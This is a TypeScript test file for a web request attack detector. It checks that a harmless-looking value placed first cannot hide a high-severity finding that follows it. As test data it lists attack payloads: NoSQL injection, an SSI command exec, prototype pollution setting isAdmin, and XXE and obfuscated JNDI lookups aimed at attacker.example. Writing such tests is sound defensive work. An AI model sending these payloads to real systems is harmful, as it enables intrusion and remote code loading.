/**
 * A weaker finding earlier in a value must not hide a paranoia-1 finding after it: putting a harmless-looking
 * lookup, directive or operator first would otherwise be a way around the detector.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { Category, DetectorContext } from '../finding.ts';
import { DETECTORS } from './index.ts';

const context: DetectorContext = { source: 'query', name: 'q', isName: false, paranoia: 3, layers: [] };

/** [category, what gives only a paranoia-2 or -3 finding on its own, what gives a paranoia-1 finding on its own]. */
const CASES: [Category, string, string][] = [
  ['nosqli', '{"tags": {"$in": ["a", "b"]}}', '{"password": {"$ne": 1}}'],
  ['ssi', '<!--#exec', '<!--#exec cmd="id" -->'],
  ['xxe', '<a xsi:schemaLocation="http://example.com/ns http://example.com/ns.xsd"/>', '<b xsi:schemaLocation="http://attacker.example/"/>'],
  ['prototype-pollution', 'the __proto__ property', 'constructor[prototype][isAdmin]'],
  ['jndi', '${env:HOME}', 'x=$&lbrace;jndi:ldap://attacker.example/a}'],
];

function lowest(category: Category, value: string): number {
  const detector = DETECTORS.find((d) => d.category === category)!;
  let best = 9;
  detector.detect(value, context, (f) => { if (f.paranoia < best) best = f.paranoia; });
  return best;
}

for (const [category, weak, strong] of CASES) {
  test(`${category}: ${JSON.stringify(weak)} before ${JSON.stringify(strong)} hides nothing`, () => {
    const alone = lowest(category, weak);
    assert.ok(alone === 2 || alone === 3, `the weak sample gives paranoia ${alone}`);
    assert.equal(lowest(category, strong), 1, 'the strong sample alone');
    for (const sep of [' ', '\n', ', ']) assert.equal(lowest(category, weak + sep + strong), 1, `joined by ${JSON.stringify(sep)}`);
  });
}
